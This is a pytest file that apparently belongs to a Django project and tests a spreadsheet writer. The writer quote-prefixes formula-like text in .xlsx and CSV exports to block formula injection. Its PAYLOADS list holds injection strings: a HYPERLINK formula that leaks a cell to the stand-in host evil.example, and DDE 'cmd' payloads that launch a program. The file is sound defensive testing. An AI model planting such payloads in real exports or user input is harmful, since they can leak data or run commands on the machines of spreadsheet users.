"""The safe spreadsheet writer: text is never a live formula in .xlsx or .csv, only an explicit Formula is,
and no module writes a workbook or a CSV file around it."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from wangge.core.spreadsheets import (
    FORMULA_PREFIXES,
    Formula,
    csv_writer,
    safe_cell,
    write_cell,
    write_row,
    write_rows,
)

# What an attacker types into an appeal, a point's name or a reply.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example")',
]


def _reread(book: Workbook) -> Workbook:
    out = io.BytesIO()
    book.save(out)
    return load_workbook(io.BytesIO(out.getvalue()))


def test_every_formula_prefix_is_covered_by_a_payload() -> None:
    assert {p[0] for p in PAYLOADS} >= set(FORMULA_PREFIXES) - {"＋", "－", "＠"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_gives_formula_like_text_a_leading_apostrophe(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("普通文字", "普通文字"),
        ("3号楼2单元", "3号楼2单元"),
        ("", ""),
        (None, ""),
        (12, 12),
        (-3.5, -3.5),
        (Decimal("1.20"), Decimal("1.20")),
        (True, True),
        (dt.date(2025, 6, 3), dt.date(2025, 6, 3)),
        (gettext_lazy("是"), "是"),
        (Formula("SUM(A1:A3)"), "=SUM(A1:A3)"),
    ],
)
def test_safe_cell_leaves_plain_text_numbers_and_dates_alone(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


@pytest.mark.parametrize("write_only", [False, True], ids=["workbook", "write-only workbook"])
def test_appended_text_is_never_a_formula_and_shows_unchanged(write_only: bool) -> None:
    # given an ordinary and a write-only workbook
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("导出") if write_only else book.active
    assert sheet is not None

    # when every payload, some plain values and an explicit formula are appended
    write_rows(sheet, [[p, "正常文字", 7] for p in PAYLOADS])
    write_row(sheet, ["#N/A", 1.5, None, Formula("SUM(C1:C8)")])

    # then only the explicit formula is a formula; formula-like text is quote-prefixed and reads as written
    ws = _reread(book).worksheets[-1]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == ["D9"]
    assert ws["D9"].value == "=SUM(C1:C8)"
    for i, payload in enumerate(PAYLOADS, start=1):
        cell = ws.cell(i, 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (payload.replace("\r", "\n"), "s", True)
        assert (ws.cell(i, 2).quotePrefix, ws.cell(i, 3).value) == (False, 7)
    assert (ws["A9"].value, ws["A9"].data_type) == ("#N/A", "s")  # text, not an error value
    assert ws["B9"].value == 1.5


def test_write_cell_returns_the_cell_for_styling_and_drops_characters_xlsx_cannot_hold() -> None:
    book = Workbook()
    ws = book.active
    assert ws is not None

    cell = write_cell(ws, 2, 3, "=1+1\x07")
    cell.number_format = "@"

    again = _reread(book).active
    assert again is not None
    assert (again["C2"].value, again["C2"].data_type, again["C2"].number_format) == ("=1+1", "s", "@")


def test_csv_writer_neutralises_every_field() -> None:
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["标题", "数量"])
    writer.writerows([[p, -1] for p in PAYLOADS])
    writer.writerow([Formula("1+1"), 2])

    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[0] == ["标题", "数量"]
    assert [r[0] for r in rows[1:-1]] == ["'" + p for p in PAYLOADS]
    assert all(r[1] == "-1" for r in rows[1:-1])  # a number stays a number
    assert rows[-1] == ["=1+1", "2"]


# --- nothing writes around the helper -------------------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
HELPER = ROOT / "core" / "spreadsheets.py"
# A CSV writer, a workbook cell receiving a value, or a row appended to a sheet.
BYPASSES = re.compile(
    r"csv\.(?:writer|DictWriter)\("
    r"|\b(?:ws|sheet|worksheet|book|wb)\.append\("
    r"|\.cell\([^)]*,[^)]*,[^)]*\)"
    r"|\.cell\([^)]*value="
)


def _sources() -> list[Path]:
    return [p for p in ROOT.rglob("*.py") if "tests" not in p.parts and "migrations" not in p.parts and p != HELPER]


def test_no_module_writes_a_spreadsheet_or_csv_around_the_safe_writer() -> None:
    offenders = [
        f"{path.relative_to(ROOT.parent)}:{n}: {line.strip()}"
        for path in _sources()
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if BYPASSES.search(line)
    ]
    assert offenders == []


def test_every_module_making_a_workbook_imports_the_safe_writer() -> None:
    makers = [p for p in _sources() if re.search(r"\bWorkbook\(", p.read_text(encoding="utf-8"))]
    assert makers, "the exports have moved: update this test"
    assert [
        str(p.relative_to(ROOT.parent)) for p in makers if "wangge.core.spreadsheets" not in p.read_text("utf-8")
    ] == []
